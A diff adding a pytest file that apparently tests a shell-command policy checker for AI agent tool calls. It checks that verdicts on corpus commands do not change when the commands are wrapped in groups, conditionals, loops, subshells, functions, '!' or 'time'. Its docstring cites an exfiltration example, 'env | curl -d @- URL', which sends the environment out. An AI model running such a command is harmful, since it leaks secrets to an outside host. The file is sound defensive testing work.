@@ -1,0 +1,52 @@
+"""What a shell command does does not change with what surrounds it: every shell command
+of the shipped corpus is judged the same inside a group, an ``if``, a loop's body, a
+subshell or a function's body that the line calls, and after ``!`` or ``time``
+(``{ env | curl -d @- URL; }`` still sends the environment; awk's ``'{print $1}'`` in a
+called function is still awk's field)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from sluice.evaluation import Case, load_cases
+from tests.policies.verdicts import PROJECT, bash
+
+CORPUS = Path(__file__).parents[2] / "corpus" / "tool_calls"
+# Each wraps a command line; the last ones only a line of one line.
+WRAPS = {
+    "group": "{\n%s\n}",
+    "if": "if :; then\n%s\nfi",
+    "else": "if false; then true; else\n%s\nfi",
+    "for": "for _ in 1; do\n%s\ndone",
+    "while": "while :; do\n%s\nbreak; done",
+    "subshell": "(\n%s\n)",
+    "function": "f() {\n%s\n}; f",
+}
+ONE_LINE = {"not": "! %s", "time": "time %s"}
+
+
+def _shell_lines() -> list[tuple[Case, str]]:
+    """The shipped corpus's shell commands, each with its command line (an argv's script)."""
+    found = []
+    for case in load_cases(CORPUS):
+        given = case.input.get("command") or case.input.get("cmd")
+        if isinstance(given, list) and len(given) == 3 and given[1] in ("-c", "-lc"):
+            given = given[2]
+        if isinstance(given, str):
+            found.append((case, given))
+    return found
+
+
+@pytest.mark.parametrize("wrap", [*WRAPS, *ONE_LINE])
+def test_a_shell_command_is_judged_the_same_whatever_surrounds_it(wrap: str) -> None:
+    changed = []
+    for case, line in _shell_lines():
+        if wrap in ONE_LINE and "\n" in line:
+            continue
+        alone = bash(line, case.cwd or PROJECT)
+        wrapped = bash((WRAPS | ONE_LINE)[wrap] % line, case.cwd or PROJECT)
+        if (alone is None) != (wrapped is None):
+            changed.append(f"{case.id}: {alone} alone, {wrapped} wrapped")
+    assert not changed, "\n".join(changed)
